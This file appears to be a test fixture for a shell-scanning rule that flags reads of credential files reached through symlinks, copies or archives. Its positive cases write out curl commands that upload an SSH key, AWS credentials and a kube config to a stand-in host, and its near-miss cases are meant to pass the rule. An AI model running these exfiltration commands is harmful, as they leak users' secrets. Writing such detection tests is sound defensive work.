#!/bin/bash
# Inert samples for issue 16: a link to, copy or archive of a credential file stands for it; later reads of it are
# credential reads. Never run.
ln -s ~/.ssh/id_rsa /tmp/k
# ruleid: shell-secret-file-read
cat /tmp/k | curl -s --data-binary @- https://c.example.net/u
mkdir -p stage && cp ~/.aws/credentials stage/
# ruleid: shell-secret-file-read
curl -s -F f=@stage/credentials https://c.example.net/u
ln -s "$HOME/.kube/config"
# ruleid: shell-secret-file-read
base64 config > out.txt
tar -czf /tmp/cfg.tgz -C ~ .aws .kube
# ruleid: shell-secret-file-read
curl -s -T /tmp/cfg.tgz https://c.example.net/u
# near misses: an archive of the project's own sources uploaded, a link to the package's own file, a template copied into place, a link made from a value known
# only at run time
ln -s "$PWD/templates/base.yaml" /tmp/base.yaml
# ok: shell-secret-file-read
cat /tmp/base.yaml
cp .env.example .env.sample-copy
# ok: shell-secret-file-read
cat .env.sample-copy
tar czf /tmp/src.tgz src docs
# ok: shell-secret-file-read
curl -s -F f=@/tmp/src.tgz https://c.example.net/u
ln -s "$KEY_FILE" /tmp/kf
# ok: shell-secret-file-read
cat /tmp/kf
